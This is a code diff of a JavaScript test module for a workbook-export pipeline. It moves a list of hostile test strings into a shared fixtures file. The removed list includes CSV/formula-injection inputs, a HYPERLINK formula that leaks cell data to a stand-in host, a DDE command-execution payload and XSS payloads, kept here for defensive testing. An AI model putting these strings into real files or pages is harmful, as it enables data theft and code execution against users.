@@ -15,19 +15,8 @@ import { writeWorkbook } from '../../pipeline/workbook/index.js';
 import { DEFAULT_PROFILE } from '../../shared/profile.js';
 import { SEED_TEXT } from './mutate.js';
 
-export const HOSTILE = [
-  '=1+1',
-  '+SUM(A1:A9)',
-  '-2+3',
-  '@SUM(A1)',
-  '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
-  "=cmd|' /C calc'!A0",
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  'N'.repeat(5000),
-  '\u202eevil\u202c \u200fשלום\u200f',
-  '👩‍👩‍👧 Famiglie 🎉',
-];
+export { HOSTILE } from '../fixtures/hostile-strings.js';
+import { HOSTILE } from '../fixtures/hostile-strings.js';
 
 // Cofinancers, a title and a narrative line of the seed, each given a hostile string.
 const TARGETS = ['LUBIAM', 'NOVELLINI', 'RELEVI', 'COPIAINCOLLA', 'ITALIA ALIMENTARI'];
